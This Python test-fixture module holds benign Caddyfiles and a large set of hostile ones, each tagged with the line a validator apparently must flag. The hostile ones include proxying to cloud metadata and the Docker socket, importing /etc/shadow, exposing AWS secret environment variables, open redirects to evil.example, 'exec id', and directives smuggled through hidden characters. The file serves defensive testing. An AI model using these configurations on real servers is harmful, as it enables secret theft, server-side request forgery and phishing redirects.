"""Caddyfiles of images: good ones, and attacks with the line that must be reported."""

from __future__ import annotations


def site(*lines: str) -> str:
    """Return a file with a proxy in its second line and `lines` from the third on."""
    body = "".join(f"\t{line}\n" for line in lines)
    return f"{{$NAMES}} {{\n\treverse_proxy {{$UPSTREAM}}\n{body}}}\n"


def handle(*lines: str) -> str:
    """Return a file with `lines` in a block from the fourth line on."""
    return site("handle /x* {", *(f"\t{line}" for line in lines), "}")


GOOD = {
    "the one of the documentation": "{$NAMES} {\n\tencode gzip\n\treverse_proxy {$UPSTREAM}\n}\n",
    "Windows line ends, a byte order mark and a comment": (
        "\ufeff# Ours: {$UPSTREAM} {\r\n{$NAMES} {\r\n\treverse_proxy {$UPSTREAM}\r\n}\r\n"
    ),
    "a line that goes on": "{$NAMES} {\n\treverse_proxy \\\n\t\t{$UPSTREAM}\n}\n",
    "static answers": site(
        'respond /robots.txt "User-agent: *\n\t\tDisallow: /" 200',
        'respond /up `{"status": "ok", "by": {"name": "Caddy"}}`',
        "error /gone 410",
        "abort /wp-admin*",
    ),
    "headers": site(
        "header Strict-Transport-Security max-age=31536000",
        'header /static/* Cache-Control "public, max-age=60"',
        "header {",
        "\t-Server",
        "\t?X-Frame-Options DENY",
        "\tX-Request-Id {http.request.uuid}",
        "\tdefer",
        "}",
        "request_header X-Real-IP {remote_host}",
    ),
    "encode": site("encode zstd gzip {", "\tminimum_length 512", "}"),
    "rewrites": site(
        "rewrite /old /new?{query}",
        "uri strip_prefix /v1",
        "handle_path /api/* {",
        "\trewrite * /v2{path}",
        "\treverse_proxy {$UPSTREAM}",
        "}",
        "rewrite /find /search?from={uri}&{query}",
        "rewrite /more* {path}?{query}&more=1",
        "rewrite /none /empty?",
    ),
    "redirects where paths are rewritten": site(
        "uri strip_prefix /v1", "redir /here https://{host}{http.request.orig_uri}"
    ),
    "redirects": site(
        "redir /old /new permanent",
        "redir /older /new{uri}",
        "redir /here https://{host}{uri} 308",
        "@www host WWW.NAME",
        "redir @www https://WWW.NAME{uri}",
        "header /moved Location /new",
    ),
    "basic authentication": site(
        "basicauth /admin/* {",
        "\tann $2a$14$Zkx19XLiW6VYouLHR5NmfOFU0z2GTNmpkT/5qqR7hx4IjWJPDhjvG",
        "}",
    ),
    "limits": site("request_body /upload {", "\tmax_size 10MB", "}"),
    "logs": site(
        "log {",
        "\toutput stderr",
        "\tformat filter {",
        "\t\twrap json",
        "\t\tfields {",
        "\t\t\trequest>headers>Authorization delete",
        "\t\t}",
        "\t}",
        "\tlevel WARN",
        "}",
        "skip_log /up",
    ),
    "matchers": site(
        "@api {",
        "\tpath /api/*",
        "\tmethod GET POST",
        "\theader Accept *json*",
        "\tnot remote_ip 192.0.2.0/24",
        "\tnot {",
        "\t\tquery debug=1",
        "\t}",
        "}",
        "respond @api 204",
        "@assets path_regexp assets \\.(css|js)$",
        'header @assets X-Kind "{re.assets.1}"',
    ),
    "a proxy with wishes": (
        "{$NAMES} {\n\troute {\n\t\treverse_proxy /* {$UPSTREAM} {\n\t\t\tlb_try_duration 5s\n"
        "\t\t\tflush_interval -1\n\t\t\theader_up Host {upstream_hostport}\n"
        "\t\t\theader_down -Server\n\t\t\ttransport http {\n\t\t\t\tkeepalive 2s\n"
        "\t\t\t\tresponse_header_timeout 30s\n\t\t\t}\n\t\t\t@error status 5xx\n"
        '\t\t\thandle_response @error {\n\t\t\t\trespond "Sorry." 503\n\t\t\t}\n\t\t}\n\t}\n}\n'
    ),
    "pages for errors": site(
        "handle_errors {", '\trespond "{err.status_code} {err.status_text}"', "}"
    ),
}

ATTACKS: dict[str, tuple[str, int]] = {
    # Destinations of requests.
    "the instance's metadata": (
        site(
            "handle /meta/* {",
            "\treverse_proxy 169.254.169.254 {",
            "\t\theader_up -X-Forwarded-For",
            "\t}",
            "}",
        ),
        4,
    ),
    "Caddy's own administration": (handle("reverse_proxy 127.0.0.1:2019"), 4),
    "Docker's socket": (handle("reverse_proxy unix//run/docker.sock"), 4),
    "a socket as if it were a matcher": (
        handle("reverse_proxy {$UPSTREAM} {", "\tto /run/docker.sock", "}"),
        5,
    ),
    "a foreign host beside the application": (
        "{$NAMES} {\n\treverse_proxy {$UPSTREAM} 10.0.0.1:80\n}\n",
        2,
    ),
    "a foreign host by `to`": (
        "{$NAMES} {\n\treverse_proxy {\n\t\tto {$UPSTREAM}\n\t\tto 10.0.0.1\n\t}\n}\n",
        4,
    ),
    "an upstream that the visitor names": (handle("reverse_proxy {header.X-Where}"), 4),
    "an upstream of a query": (handle("reverse_proxy {http.request.uri.query.to}:80"), 4),
    "an upstream of an import's argument": (handle("reverse_proxy {args.0}"), 4),
    "the other slot": (handle("reverse_proxy 127.0.0.1:8001"), 4),
    "another port of the slot": (handle("reverse_proxy {$UPSTREAM}1"), 4),
    "an upstream by SRV": (handle("reverse_proxy srv+http://evil.example"), 4),
    "an upstream by h2c": (handle("reverse_proxy h2c://127.0.0.1:2019"), 4),
    "an upstream by https": (handle("reverse_proxy https://evil.example"), 4),
    "dynamic upstreams": (
        handle(
            "reverse_proxy {", "\tdynamic a {", "\t\tname evil.example", "\t\tport 80", "\t}", "}"
        ),
        5,
    ),
    "a health check elsewhere": (
        handle("reverse_proxy {$UPSTREAM} {", "\thealth_uri /x", "\thealth_port 2019", "}"),
        5,
    ),
    "forward_auth": (site("forward_auth 10.0.0.1:80 {", "\turi /", "}"), 3),
    "php_fastcgi": (site("php_fastcgi unix//run/php.sock"), 3),
    "a transport that is FastCGI": (
        handle("reverse_proxy {$UPSTREAM} {", "\ttransport fastcgi {", "\t\troot /etc", "\t}", "}"),
        5,
    ),
    "a transport with files of the host": (
        handle(
            "reverse_proxy {$UPSTREAM} {",
            "\ttransport http {",
            "\t\ttls_trusted_ca_certs /etc/shadow",
            "\t}",
            "}",
        ),
        6,
    ),
    "a resolver": (
        handle(
            "reverse_proxy {$UPSTREAM} {",
            "\ttransport http {",
            "\t\tresolvers 10.0.0.1",
            "\t}",
            "}",
        ),
        6,
    ),
    "a proxy in the answer of the application": (
        handle(
            "reverse_proxy {$UPSTREAM} {",
            "\thandle_response {",
            "\t\treverse_proxy 169.254.169.254",
            "\t}",
            "}",
        ),
        6,
    ),
    "a proxy where errors are handled": (
        site("handle_errors {", "\treverse_proxy 169.254.169.254", "}"),
        4,
    ),
    "a proxy five blocks deep": (
        site(
            "route {", "handle {", "handle_path /a* {", "route {", "reverse_proxy 10.0.0.1"
        ).removesuffix("}\n")
        + "}\n}\n}\n}\n}\n",
        7,
    ),
    "the slot's variable set anew": (site("vars daybook_slot 169.254.169.254:80"), 3),
    "the slot's variable set by the host's matcher": (site("skip_log @daybook_second"), 3),
    "the slot's variable mapped": (
        site("map {host} {vars.daybook_slot} {", "\tdefault 169.254.169.254:80", "}"),
        3,
    ),
    "the host's matcher defined anew": (site("@daybook_second path /x"), 3),
    # Files of the host.
    "the root of the host": (site("handle /f/* {", "\troot * /", "\tfile_server browse", "}"), 4),
    "a file server": (site("file_server /f/* {", "\troot /var/lib/caddy", "}"), 3),
    "try_files": (site("try_files {path} /etc/passwd"), 3),
    "a matcher that looks at files": (site("@f file /etc/shadow", "respond @f yes"), 3),
    "a matcher of files in a block": (
        site(
            "@f {",
            "\tfile {",
            "\t\troot /etc",
            "\t\ttry_files /shadow",
            "\t}",
            "}",
            "respond @f yes",
        ),
        4,
    ),
    "an expression that looks at files": (
        site("@f expression `file({'root': '/etc'})`", "respond @f yes"),
        3,
    ),
    "an expression in a block": (site("@f {", "\texpression `true`", "}", "respond @f yes"), 4),
    "an expression denied": (site("@f not expression `true`", "respond @f yes"), 3),
    "a matcher of variables": (site("@f vars {env.HOME} /root", "respond @f yes"), 3),
    "import of a file in a site": (site("import /etc/shadow"), 3),
    "import of a file in headers": (handle("header {", "\timport /etc/shadow", "}"), 5),
    "import of a file in quotes": (handle("header {", '\t"import" /etc/shadow', "}"), 5),
    "import of a file at the top": ("import /etc/shadow\n" + site(), 1),
    "import by a pattern": (site("import /srv/*/releases/*/environment.json"), 3),
    "import of a snippet": (
        "(s) {\n\treverse_proxy 169.254.169.254\n}\n" + site("import s"),
        1,
    ),
    "import after a word of two lines": (site('header X "a', 'b" import /etc/shadow'), 4),
    "templates": (site("templates", 'respond `{{env "HOME"}}`'), 3),
    "the environment of Caddy": (site("respond {env.AWS_SECRET_ACCESS_KEY}"), 3),
    "the environment of Caddy in a header": (site("header X-Key {env.AWS_SECRET_ACCESS_KEY}"), 3),
    "the environment of Caddy for the application": (
        "{$NAMES} {\n\treverse_proxy {$UPSTREAM} {\n\t\theader_up X {env.HOME}\n\t}\n}\n",
        3,
    ),
    "the environment of Caddy, escaped": (site("respond {env.HOME\\}x}"), 3),
    "the environment of Caddy in JSON": (site('respond `{"a": "{env.HOME}"}`'), 3),
    "the environment of who adapts": (site("respond {$HOME}"), 3),
    "the environment of who adapts, with a block": (
        site("{$X:respond}", "respond {$Y:a}"),
        3,
    ),
    "a file by a placeholder": (site("respond {file./etc/shadow}"), 3),
    "the host by a placeholder": (site("respond {system.hostname}{system.wd}"), 3),
    "the body of requests in memory": (site("respond {http.request.body}"), 3),
    "a rewrite with the visitor's path and query": (site("rewrite * {uri}"), 3),
    "a rewrite with the visitor's path behind another": (handle("rewrite * /v2{uri}?a=b"), 4),
    "a rewrite with the visitor's path, in full": (site("rewrite * {http.request.uri}"), 3),
    "a rewrite with a header and no query": (site("rewrite * {header.X-Go}?"), 3),
    "a rewrite with a path and no query": (site("rewrite * {path}?#{uri}"), 3),
    "a rewrite without a matcher": (site("rewrite /a{header.X-Go}?"), 3),
    "a rewrite with a header of the application": (
        handle(
            "reverse_proxy {$UPSTREAM} {",
            "\thandle_response {",
            "\t\trewrite * {rp.header.X-Accel-Redirect}?",
            "\t}",
            "}",
        ),
        6,
    ),
    "a rewrite of the proxy's own": (
        handle("reverse_proxy {$UPSTREAM} {", "\trewrite /v2{uri}", "}"),
        5,
    ),
    # Listeners, names, certificates, options.
    "a second site": (site() + "staging.example {\n\trespond hello\n}\n", 4),
    "a second port": (site() + ":8088 {\n\trespond hello\n}\n", 4),
    "the name twice": (site() + "{$NAMES} {\n\trespond hello\n}\n", 4),
    "a name beside the application's": (
        "{$NAMES}, evil.example {\n\treverse_proxy {$UPSTREAM}\n}\n",
        1,
    ),
    "a port of the application's name": ("{$NAMES}:8443 {\n\treverse_proxy {$UPSTREAM}\n}\n", 1),
    "a matcher with a foreign name": (site("@n host evil.example", "respond @n yes"), 3),
    "a matcher with a foreign name, denied": (
        site("@n not host evil.example", "respond @n yes"),
        3,
    ),
    "global options": ("{\n\tadmin 0.0.0.0:2019\n}\n" + site(), 1),
    "global options below": (site() + "{\n\tadmin off\n}\n", 4),
    "bind": (site("bind 0.0.0.0"), 3),
    "tls internal": (site("tls internal"), 3),
    "tls with files": (site("tls /etc/shadow /etc/shadow"), 3),
    "tls on demand": (site("tls {", "\ton_demand", "}"), 3),
    "an ACME server": (site("acme_server"), 3),
    "the host's measurements": (site("metrics /metrics"), 3),
    "tracing": (site("tracing {", "\tspan x", "}"), 3),
    "push": (site("push /x"), 3),
    "exec": (site("exec id"), 3),
    "invoke": (site("invoke x"), 3),
    "root": (site("root * /etc"), 3),
    # Logs.
    "a log that is a file": (
        site("log {", "\toutput file /etc/cron.d/x", "}"),
        4,
    ),
    "a log that goes to the network": (site("log {", "\toutput net 10.0.0.1:514", "}"), 4),
    "a log that is thrown away": (site("log {", "\toutput discard", "}"), 4),
    # Redirects of visitors to other sites.
    "a redirect to a foreign site": (site("redir https://evil.example{uri}"), 3),
    "a redirect without a scheme": (site("redir * //evil.example"), 3),
    "a redirect with backslashes": (site("redir * `/\\evil.example`"), 3),
    "a redirect with a tab": (site('redir * "/\t/evil.example"'), 3),
    "a redirect with a user": (site("redir https://WWW.NAME@evil.example/"), 3),
    "a redirect to a longer name": (site("redir https://WWW.NAME.evil.example/"), 3),
    "a redirect to a name that the path makes longer": (
        site("handle_path /a* {", "\tredir https://WWW.NAME{uri}", "}"),
        4,
    ),
    "a redirect to what the visitor says": (site("redir {header.X-To}"), 3),
    "a redirect to a query": (site("redir https://{query.to}"), 3),
    "a redirect to a path that is a host": (site("redir {uri}"), 3),
    "a redirect to a slash and a path": (site("redir * /{path}"), 3),
    "a redirect by script": (site("redir https://evil.example html"), 3),
    "a redirect by a scheme of its own": (site("redir javascript:alert(1)"), 3),
    "a header that redirects": (site("header Location https://evil.example"), 3),
    "a header that redirects, in a block": (
        site("header {", "\t>Location https://evil.example", "}"),
        4,
    ),
    "a header that redirects by replacing": (
        site("header Location https://WWW.NAME https://evil.example"),
        3,
    ),
    "a header that the visitor names": (
        site("header {query.name} {query.value}", 'respond /x "" 302'),
        3,
    ),
    "a header that the visitor names, in a block": (
        site("header {", "\t{header.X-Name} {header.X-Value}", "}"),
        4,
    ),
    "a header that refreshes": (site('header Refresh "0; url=https://evil.example"'), 3),
    "an answer of the application that redirects": (
        "{$NAMES} {\n\treverse_proxy {$UPSTREAM} {\n\t\theader_down Location //evil\n\t}\n}\n",
        3,
    ),
    # Obscured text.
    "a block that is closed too often": (site("}") + ":8088 {\n\trespond x\n", 4),
    "a block that is not closed": ("{$NAMES} {\n\treverse_proxy {$UPSTREAM}\n\thandle {\n}\n", 1),
    "a brace in quotes": (site('respond "}"', ":8088 {"), 3),
    "a brace in the middle": (site("respond x } :8088 {"), 3),
    "a NUL": (site("respond a\0b"), 3),
    "a carriage return": (site("respond a\rimport /etc/shadow"), 3),
    "a separator of lines": (site("respond a\u2028import /etc/shadow"), 3),
    "text that is turned around": (site("respond \u202eabc"), 3),
    "a space that is none": (site("respond\u00a0import"), 3),
    "a quote that is not closed": (site('respond "abc'), 3),
    "a word after a quote": (site('respond "a"import'), 3),
    "a hundred thousand characters": (site(f"respond {'x' * 100_000}"), 1),
    "a hundred blocks": ("{$NAMES} {\n" + "handle {\n" * 100 + "}\n" * 101, 13),
    "five thousand statements": (site(*["abort /x"] * 5000), 1001),
    "nothing": ("", 1),
    "no application": ("{$NAMES} {\n\trespond hello\n}\n", 1),
    "the application in a comment": ("{$NAMES} {\n\trespond hello # {$UPSTREAM}\n}\n", 1),
}


SALTED = "Zkx19XLiW6VYouLHR5NmfOFU0z2GTNmpkT/5qqR7hx4IjWJPDhjvG"
LATE = {
    "a hash that takes hours": site("basicauth {", f"\tann $2z$31${SALTED}", "}"),
    "a hash that takes hours by a placeholder": site(
        "basicauth {", f"\tann $2{{host}}$31${SALTED}", "}"
    ),
    "a log whose lines end as the image says": site(
        "log {", "\tformat json {", '\t\tline_ending "\n<0>"', "\t}", "}"
    ),
    "a log whose lines begin as the image says": site(
        "log {", "\tformat console {", '\t\ttime_format "<0>All hands"', "\t}", "}"
    ),
}
"""Attacks that show only in the adapted configuration, not in the text."""


def named(text: str, name: str) -> str:
    """Return a file with the environment's name inserted."""
    return text.replace("WWW.NAME", name)
